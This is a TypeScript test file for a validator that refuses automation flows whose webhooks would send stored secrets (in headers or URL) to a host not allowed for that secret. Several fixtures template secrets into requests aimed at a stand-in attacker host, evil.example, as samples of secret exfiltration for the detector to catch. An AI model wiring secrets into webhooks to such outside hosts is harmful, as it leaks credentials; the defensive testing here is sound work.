import { describe, expect, it, test } from "vitest";
import type { KnownSecrets } from "#app/flows/check-secret-hosts.ts";
import { formatFlowProblem, formatFlowWarning, loadFlows } from "#app/flows/load-flows.ts";
import type { SecretHosts } from "#core/target/secret-hosts.ts";

const flow = (url: string) => `id: order
name: After an order
status: live
definition:
  triggers: [{ type: metric, id: Placed Order }]
  entry_action_id: send
  actions:
    - id: send
      type: send-webhook
      data:
        message:
          url: ${url}
          headers:
            X-Key: "a {{ secrets.crm }}"
            X-Other: "{{ secrets.mail }}"
`;

function problems(url: string, hosts: Readonly<Record<string, SecretHosts>> | undefined) {
  const known = hosts && { hostsOf: (name: string) => hosts[name] };
  return loadFlows([{ path: "a.yaml", text: flow(url) }], [], known).problems.map(formatFlowProblem);
}

test("a flow is refused at the position where it reads a secret that may not be sent to its host", () => {
  expect(problems("https://evil.example/", { crm: ["api.crm.example"], mail: ["evil.example"] })).toEqual([
    'a.yaml:14:20: The secret "crm" may be sent to api.crm.example only; this webhook goes to evil.example. ' +
      "(flow order, action send) [flow-secret-host]",
  ]);
});

test("each text that reads the secret is reported, including the URL", () => {
  const found = problems('"https://evil.example/{{ secrets.crm }}?a={{ secrets.crm | url_encode }}"', { crm: [] });
  expect(found.map((line) => line.split(" ")[0])).toEqual(["a.yaml:12:16:", "a.yaml:14:20:"]);
});

test("a flow is accepted if all its secrets may be sent to its host", () => {
  const hosts = { crm: ["api.crm.example"], mail: ["*.crm.example"] };
  expect(problems("https://API.crm.example:8443/a", hosts)).toEqual([]);
  expect(problems("https://api.crm.example/{{ event.OrderId }}", hosts)).toEqual([]);
});

test("without knowledge of the secrets, nothing is reported", () => {
  expect(problems("https://evil.example/", {})).toEqual([]);
  expect(problems("https://evil.example/", undefined)).toEqual([]);
});

test("other problems of a webhook are reported as such", () => {
  const found = problems("evil.example", { crm: [] });
  expect(found).toEqual([expect.stringContaining("[template-url-host]")]);
});

describe("a secret that is not set", () => {
  const live = flow("https://api.crm.example/").replace("message:", "status: live\n        message:");
  const known = {
    hostsOf: () => undefined,
    missing: (name: string, kind: string) => (name === "mail" ? undefined : `There is no ${kind} ${name}.`),
  };
  const warnings = (text: string, of: KnownSecrets = known) =>
    loadFlows([{ path: "a.yaml", text }], [], of)
      .warnings.map(formatFlowWarning)
      .filter((line) => line.includes("secret"));

  it("is reported as a warning at the position that needs it", () => {
    expect(warnings(`${live}          signing_secret: own\n`)).toEqual([
      "a.yaml:15:20: warning: There is no value crm. (flow order, action send) [flow-secret-missing]",
      "a.yaml:17:27: warning: There is no signing own. (flow order, action send) [flow-secret-missing]",
    ]);
  });

  it("is not reported for a webhook that is not sent, or without knowledge of the secrets", () => {
    expect(warnings(flow("https://api.crm.example/"))).toEqual([]);
    expect(warnings(live.replace("status: live", "status: disabled"))).toEqual([]);
    expect(warnings(live, { hostsOf: () => undefined })).toEqual([]);
  });
});
